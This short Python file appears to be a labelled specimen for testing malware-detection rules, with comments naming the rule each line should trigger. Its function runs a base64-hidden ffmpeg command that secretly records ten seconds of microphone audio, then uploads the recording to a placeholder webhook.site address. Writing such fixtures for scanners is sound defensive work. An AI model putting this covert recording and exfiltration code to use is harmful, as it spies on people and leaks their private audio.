raise SystemExit("specimen: not to be run")
import base64
import os
import requests

def tell():
    os.system(base64.b64decode("ZmZtcGVnIC1mIGRzaG93IC1pIGF1ZGlvPU1pY3JvcGhvbmUgLXQgMTAgYS53YXY=").decode())  # match: camera-or-microphone  # match: execution-of-decoded
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=open("a.wav", "rb"))  # match: out-of-band-beacon  # match: secrets-sent
